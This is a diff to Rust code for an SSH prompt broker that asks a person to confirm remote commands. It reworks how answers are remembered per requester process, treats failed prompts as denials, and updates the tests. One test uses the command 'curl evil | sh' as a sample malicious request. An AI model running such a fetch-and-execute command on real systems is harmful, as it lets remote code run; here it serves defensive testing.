@@ -11,6 +11,9 @@ pub mod askpass;
 pub mod broker;
 pub mod lock;
 pub mod notify;
+pub mod text;
+
+pub use text::one_line;
 
 use std::collections::HashMap;
 use std::sync::Mutex;
@@ -25,23 +28,6 @@ use notify::NotificationPrompter;
 
 /// How long a lock-state query may take before it counts as unknown.
 const LOCK_QUERY_TIMEOUT: Duration = Duration::from_secs(1);
-
-/// Makes text from a requester safe to show on one line: control
-/// characters (newlines above all, which could forge a "requested by" line
-/// or push the real one out of view) are shown escaped.
-pub fn one_line(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        match c {
-            '\n' => out.push_str("\\n"),
-            '\r' => out.push_str("\\r"),
-            '\t' => out.push_str("\\t"),
-            c if c.is_control() => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
-            c => out.push(c),
-        }
-    }
-    out
-}
 
 /// What a prompt shows.
 #[derive(Debug, Clone)]
@@ -61,8 +47,14 @@ pub enum Answer {
     /// Closed or clicked without choosing allow (the reason says how).
     Dismissed(String),
     TimedOut,
-    /// Nobody could be asked this way (the reason says why).
+    /// Nobody could be asked this way (the reason says why): there is no
+    /// notification server with buttons and no askpass helper. Only this
+    /// falls to the policy's `no_prompter`.
     Unavailable(String),
+    /// A way to ask was there, but this prompt could not be shown or its
+    /// answer not read (the reason says why). Never "nobody to ask": a
+    /// request whose prompt failed is denied.
+    Failed(String),
 }
 
 impl Answer {
@@ -78,6 +70,7 @@ impl Answer {
             Answer::Dismissed(how) => format!("prompt not answered: {how}"),
             Answer::TimedOut => "prompt timed out".into(),
             Answer::Unavailable(why) => format!("nobody could be asked: {why}"),
+            Answer::Failed(why) => format!("the prompt could not be shown: {why}"),
         }
     }
 }
@@ -126,21 +119,26 @@ impl Prompter {
         }
     }
 
-    /// Asks with the best available means; `Unavailable` if none works.
+    /// Asks with the best available means. `Unavailable` only if there is
+    /// no way to ask at all; a desktop prompt that failed falls back to
+    /// askpass, and if there is none the answer is `Failed` (a denial).
     pub async fn ask(&self, text: &PromptText, timeout: Duration) -> Answer {
         let mut why = self.no_notifications.clone().unwrap_or_default();
+        let mut failed = None;
         if let Some(notifications) = &self.notifications {
             match notifications.ask(text, timeout).await {
                 Answer::Unavailable(reason) => why = reason,
+                Answer::Failed(reason) => failed = Some(reason),
                 answer => return answer,
             }
         }
         if let Some(askpass) = &self.askpass {
-            return askpass
-                .confirm(&format!("{}\n\n{}", text.summary, text.body), timeout)
-                .await;
+            return askpass.confirm(text, timeout).await;
         }
-        Answer::Unavailable(format!("{why}; and no SSH_ASKPASS with a display"))
+        match failed {
+            Some(reason) => Answer::Failed(reason),
+            None => Answer::Unavailable(format!("{why}; and no SSH_ASKPASS with a display")),
+        }
     }
 
     /// The lock state, or unknown if the bus does not answer quickly: a
@@ -200,29 +198,79 @@ pub fn prompt_test(timeout: Duration) -> anyhow::Result<std::process::ExitCode> 
     })
 }
 
-/// Identical asks share one prompt and one answer; an "Allow for …" answer
-/// covers the same host + program + kind for a while.
+/// A process, pinned: a pid alone may be reused, a pid with its start
+/// time may not; the name is part of it because an exec keeps both.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
-pub struct AskKey {
-    pub host: String,
-    pub program: String,
-    pub kind: String,
+pub struct ProcessRef {
+    pub pid: u32,
+    pub start_time: u64,
+    /// The verified short name ("bash"), or argv\[0\] marked unverified.
+    pub name: String,
 }
 
-/// One requester, for flood protection: a uid and its program.
+impl std::fmt::Display for ProcessRef {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{} ({})", self.name, self.pid)
+    }
+}
+
+/// Who is asking, for everything prompts remember: the account, the
+/// process the ssh was run from (the requester chain's first ancestor that
+/// is neither ssh nor a `sh -c` wrapper: that terminal's shell, that git),
+/// and the verified program the policy matched. Two terminals of one user
+/// are two requesters; every ssh started from one shell is one.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
-pub struct RequesterKey {
+pub struct RequesterId {
     pub uid: u32,
-    pub program: String,
+    pub anchor: ProcessRef,
+    /// The requesting program's verified path; `None` when unknown.
+    pub program: Option<String>,
+}
+
+/// One request exactly, for sharing a prompt: only asks equal in every
+/// field wait for the same answer.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct AskKey {
+    pub requester: RequesterId,
+    pub host: String,
+    pub kind: String,
+    /// The exact command, subsystem or forward, as the prompt shows it
+    /// before escaping (and a forward's local port).
+    pub detail: Option<String>,
+}
+
+impl AskKey {
+    /// What an "Allow for …" answer to this ask covers: requests of this
+    /// kind to this host from this requester, whatever their command.
+    fn scope(&self) -> RememberKey {
+        RememberKey {
+            requester: self.requester.clone(),
+            host: self.host.clone(),
+            kind: self.kind.clone(),
+        }
+    }
+}
+
+/// The scope of a remembered "Allow for …".
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct RememberKey {
+    pub requester: RequesterId,
+    pub host: String,
+    pub kind: String,
 }
 
 /// The memory around prompts, shared by every connection of a master.
 #[derive(Default)]
 pub struct PromptMemory {
-    remembered: Mutex<HashMap<AskKey, Instant>>,
-    cooling: Mutex<HashMap<RequesterKey, Instant>>,
-    open: Mutex<HashMap<AskKey, watch::Receiver<Option<Answer>>>>,
-    open_by_requester: Mutex<HashMap<RequesterKey, AskKey>>,
+    remembered: Mutex<HashMap<RememberKey, Instant>>,
+    cooling: Mutex<HashMap<RequesterId, Instant>>,
+    open: Mutex<OpenPrompts>,
+}
+
+#[derive(Default)]
+struct OpenPrompts {
+    by_ask: HashMap<AskKey, watch::Receiver<Option<Answer>>>,
+    by_requester: HashMap<RequesterId, AskKey>,
 }
 
 /// How long a prompt may stay open, an "Allow for …" lasts, and asks
@@ -247,22 +295,39 @@ pub enum Asked {
     Prompted { answer: Answer, shared: bool },
 }
 
+/// An open prompt's entries; removed however the ask ends, including when
+/// its future is dropped, so that nothing joins or waits on a prompt that
+/// is gone (a joiner then sees the sender vanish: a failed prompt).
+struct OpenGuard<'a> {
+    memory: &'a PromptMemory,
+    key: AskKey,
+}
+
+impl Drop for OpenGuard<'_> {
+    fn drop(&mut self) {
+        let mut open = self.memory.open.lock().expect("not poisoned");
+        open.by_ask.remove(&self.key);
+        open.by_requester.remove(&self.key.requester);
+    }
+}
+
 impl PromptMemory {
     /// Asks, unless a remembered answer or the cool-down decides first.
     pub async fn ask(
         &self,
         prompter: &Prompter,
         key: AskKey,
-        requester: RequesterKey,
         text: &PromptText,
         times: PromptTimes,
     ) -> Asked {
+        self.prune();
         let now = Instant::now();
+        let scope = key.scope();
         if let Some(until) = self
             .remembered
             .lock()
             .expect("not poisoned")
-            .get(&key)
+            .get(&scope)
             .copied()
             && until > now
         {
@@ -274,63 +339,60 @@ impl PromptMemory {
             .cooling
             .lock()
             .expect("not poisoned")
-            .get(&requester)
+            .get(&key.requester)
             .copied()
             && until > now
         {
             return Asked::CoolingDown;
         }
         // Join an identical open prompt, or open one.
-        let (sender, shared_receiver) = {
+        let joined = {
             let mut open = self.open.lock().expect("not poisoned");
-            match open.get(&key) {
-                Some(receiver) => (None, Some(receiver.clone())),
+            match open.by_ask.get(&key) {
+                Some(receiver) => Ok(receiver.clone()),
+                None if open.by_requester.contains_key(&key.requester) => return Asked::Busy,
                 None => {
-                    let mut by_requester = self.open_by_requester.lock().expect("not poisoned");
-                    if by_requester.contains_key(&requester) {
-                        return Asked::Busy;
-                    }
                     let (sender, receiver) = watch::channel(None);
-                    open.insert(key.clone(), receiver);
-                    by_requester.insert(requester.clone(), key.clone());
-                    (Some(sender), None)
+                    open.by_ask.insert(key.clone(), receiver);
+                    open.by_requester.insert(key.requester.clone(), key.clone());
+                    Err(sender)
                 }
             }
         };
-        if let Some(mut receiver) = shared_receiver {
-            let answer = receiver
-                .wait_for(Option::is_some)
-                .await
-                .ok()
-                .and_then(|a| a.clone())
-                .unwrap_or(Answer::Unavailable("the shared prompt went away".into()));
-            return Asked::Prompted {
-                answer,
-                shared: true,
-            };
-        }
-        let sender = sender.expect("set when not shared");
+        let sender = match joined {
+            Ok(mut receiver) => {
+                let answer = receiver
+                    .wait_for(Option::is_some)
+                    .await
+                    .ok()
+                    .and_then(|a| a.clone())
+                    .unwrap_or(Answer::Failed("the shared prompt went away".into()));
+                return Asked::Prompted {
+                    answer,
+                    shared: true,
+                };
+            }
+            Err(sender) => sender,
+        };
+        let guard = OpenGuard { memory: self, key };
         let answer = prompter.ask(text, times.timeout).await;
         match &answer {
             Answer::AllowRemember => {
                 self.remembered
                     .lock()
                     .expect("not poisoned")
-                    .insert(key.clone(), Instant::now() + times.remember);
+                    .insert(scope, Instant::now() + times.remember);
             }
             Answer::Deny | Answer::Dismissed(_) | Answer::TimedOut => {
                 self.cooling
                     .lock()
                     .expect("not poisoned")
-                    .insert(requester.clone(), Instant::now() + times.cooldown);
+                    .insert(guard.key.requester.clone(), Instant::now() + times.cooldown);
             }
-            Answer::AllowOnce | Answer::Unavailable(_) => {}
+            // Not the person's refusal: no cool-down.
+            Answer::AllowOnce | Answer::Unavailable(_) | Answer::Failed(_) => {}
         }
-        self.open.lock().expect("not poisoned").remove(&key);
-        self.open_by_requester
-            .lock()
-            .expect("not poisoned")
-            .remove(&requester);
+        drop(guard);
         let _ = sender.send(Some(answer.clone()));
         Asked::Prompted {
             answer,
@@ -339,7 +401,7 @@ impl PromptMemory {
     }
 
     /// Remembered answers still in force, with seconds left.
-    pub fn remembered(&self) -> Vec<(AskKey, u64)> {
+    pub fn remembered(&self) -> Vec<(RememberKey, u64)> {
         let now = Instant::now();
         let mut list: Vec<_> = self
             .remembered
@@ -350,7 +412,11 @@ impl PromptMemory {
             .map(|(key, until)| (key.clone(), (*until - now).as_secs()))
             .collect();
         list.sort_by(|a, b| {
-            (&a.0.host, &a.0.program, &a.0.kind).cmp(&(&b.0.host, &b.0.program, &b.0.kind))
+            (&a.0.host, a.0.requester.anchor.pid, &a.0.kind).cmp(&(
+                &b.0.host,
+                b.0.requester.anchor.pid,
+                &b.0.kind,
+            ))
         });
         list
     }
@@ -362,24 +428,44 @@ impl PromptMemory {
         remembered.clear();
         count
     }
+
+    /// Drops what has expired, so the maps do not grow with every
+    /// requester ever seen.
+    pub fn prune(&self) {
+        let now = Instant::now();
+        self.remembered
+            .lock()
+            .expect("not poisoned")
+            .retain(|_, until| *until > now);
+        self.cooling
+            .lock()
+            .expect("not poisoned")
+            .retain(|_, until| *until > now);
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn key(kind: &str) -> AskKey {
-        AskKey {
-            host: "h".into(),
-            program: "/usr/bin/git".into(),
-            kind: kind.into(),
+    fn requester(shell_pid: u32) -> RequesterId {
+        RequesterId {
+            uid: 1000,
+            anchor: ProcessRef {
+                pid: shell_pid,
+                start_time: 77,
+                name: "bash".into(),
+            },
+            program: Some("/usr/bin/ssh".into()),
         }
     }
 
-    fn requester() -> RequesterKey {
-        RequesterKey {
-            uid: 1000,
-            program: "/usr/bin/git".into(),
+    fn key(kind: &str, command: &str, shell_pid: u32) -> AskKey {
+        AskKey {
+            requester: requester(shell_pid),
+            host: "h".into(),
+            kind: kind.into(),
+            detail: Some(command.into()),
         }
     }
 
@@ -400,22 +486,12 @@ mod tests {
     }
 
     #[test]
-    fn requester_text_stays_on_one_line() {
-        assert_eq!(
-            one_line("true\nrequested by git"),
-            "true\\nrequested by git"
-        );
-        assert_eq!(one_line("a\u{1b}[2Jb\tc"), "a\\u{1b}[2Jb\\tc");
-        assert_eq!(one_line("plain é"), "plain é");
-    }
-
-    #[test]
     fn nobody_to_ask_is_unavailable_and_not_remembered() {
         crate::test_support::runtime().block_on(async {
             let memory = PromptMemory::default();
             let prompter = Prompter::none();
             let asked = memory
-                .ask(&prompter, key("exec"), requester(), &text(), times())
+                .ask(&prompter, key("exec", "ls", 1), &text(), times())
                 .await;
             assert!(matches!(
                 asked,
@@ -427,50 +503,103 @@ mod tests {
             assert!(memory.remembered().is_empty());
             // Unavailable is not a refusal by the person: no cool-down.
             let again = memory
-                .ask(&prompter, key("exec"), requester(), &text(), times())
+                .ask(&prompter, key("exec", "ls", 1), &text(), times())
                 .await;
             assert!(matches!(again, Asked::Prompted { .. }));
+            // And nothing is left open.
+            assert!(memory.open.lock().unwrap().by_ask.is_empty());
         });
     }
 
     #[test]
-    fn remembered_answers_are_listed_and_forgotten() {
+    fn a_remembered_answer_covers_its_requester_kind_and_host_only() {
         let memory = PromptMemory::default();
-        memory
-            .remembered
-            .lock()
-            .unwrap()
-            .insert(key("exec"), Instant::now() + Duration::from_secs(600));
+        memory.remembered.lock().unwrap().insert(
+            key("exec", "ls", 1).scope(),
+            Instant::now() + Duration::from_secs(600),
+        );
         let listed = memory.remembered();
         assert_eq!(listed.len(), 1);
         assert!(listed[0].1 > 590);
-        let asked = crate::test_support::runtime().block_on(memory.ask(
-            &Prompter::none(),
-            key("exec"),
-            requester(),
-            &text(),
-            times(),
+        let ask = |key: AskKey| {
+            crate::test_support::runtime().block_on(memory.ask(
+                &Prompter::none(),
+                key,
+                &text(),
+                times(),
+            ))
+        };
+        // Another command of the same kind from the same shell: covered.
+        assert!(matches!(
+            ask(key("exec", "make", 1)),
+            Asked::Remembered { .. }
         ));
-        assert!(matches!(asked, Asked::Remembered { .. }));
+        // Another shell, another kind, another host: asked.
+        assert!(matches!(ask(key("exec", "ls", 2)), Asked::Prompted { .. }));
+        assert!(matches!(ask(key("shell", "ls", 1)), Asked::Prompted { .. }));
+        let mut other_host = key("exec", "ls", 1);
+        other_host.host = "g".into();
+        assert!(matches!(ask(other_host), Asked::Prompted { .. }));
+        // The same shell pid after an exec or a reuse is another process.
+        let mut execed = key("exec", "ls", 1);
+        execed.requester.anchor.name = "python3".into();
+        assert!(matches!(ask(execed), Asked::Prompted { .. }));
+        let mut reused = key("exec", "ls", 1);
+        reused.requester.anchor.start_time += 1;
+        assert!(matches!(ask(reused), Asked::Prompted { .. }));
         assert_eq!(memory.forget(), 1);
         assert!(memory.remembered().is_empty());
     }
 
     #[test]
-    fn cool_down_after_a_refusal() {
+    fn cool_down_is_per_requester() {
         let memory = PromptMemory::default();
         memory
             .cooling
             .lock()
             .unwrap()
-            .insert(requester(), Instant::now() + Duration::from_secs(30));
-        let asked = crate::test_support::runtime().block_on(memory.ask(
-            &Prompter::none(),
-            key("shell"),
-            requester(),
-            &text(),
-            times(),
+            .insert(requester(1), Instant::now() + Duration::from_secs(30));
+        let ask = |key: AskKey| {
+            crate::test_support::runtime().block_on(memory.ask(
+                &Prompter::none(),
+                key,
+                &text(),
+                times(),
+            ))
+        };
+        assert_eq!(ask(key("shell", "", 1)), Asked::CoolingDown);
+        assert!(matches!(ask(key("shell", "", 2)), Asked::Prompted { .. }));
+    }
+
+    #[test]
+    fn only_identical_asks_share_and_a_dropped_ask_leaves_nothing_open() {
+        let runtime = crate::test_support::runtime();
+        let memory = PromptMemory::default();
+        // An open prompt, as `ask` leaves it while the person decides.
+        let (sender, receiver) = watch::channel(None);
+        {
+            let mut open = memory.open.lock().unwrap();
+            open.by_ask.insert(key("exec", "ls", 1), receiver);
+            open.by_requester.insert(requester(1), key("exec", "ls", 1));
+        }
+        let ask =
+            |key: AskKey| runtime.block_on(memory.ask(&Prompter::none(), key, &text(), times()));
+        // A different command from the same requester does not join it.
+        assert_eq!(ask(key("exec", "curl evil | sh", 1)), Asked::Busy);
+        // The same command from another shell gets a prompt of its own.
+        assert!(matches!(
+            ask(key("exec", "ls", 2)),
+            Asked::Prompted { shared: false, .. }
         ));
-        assert_eq!(asked, Asked::CoolingDown);
+        // The identical ask joins, and a prompt that goes away without an
+        // answer is a failure, not "nobody to ask".
+        drop(sender);
+        assert_eq!(
+            ask(key("exec", "ls", 1)),
+            Asked::Prompted {
+                answer: Answer::Failed("the shared prompt went away".into()),
+                shared: true
+            }
+        );
     }
 }
